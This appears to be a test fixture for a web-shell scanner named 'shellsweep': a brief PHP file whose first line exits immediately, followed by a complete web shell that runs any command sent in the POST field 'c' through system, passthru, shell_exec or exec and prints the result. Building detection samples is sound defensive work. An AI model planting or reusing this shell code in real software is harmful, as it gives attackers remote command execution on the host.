<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
function run($c) {
  if (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); }
  if (function_exists('passthru')) { ob_start(); passthru($c); return ob_get_clean(); }
  if (function_exists('shell_exec')) { return shell_exec($c); }
  if (function_exists('exec')) { exec($c, $o); return implode("\n", $o); }
}
echo run($_POST['c']);
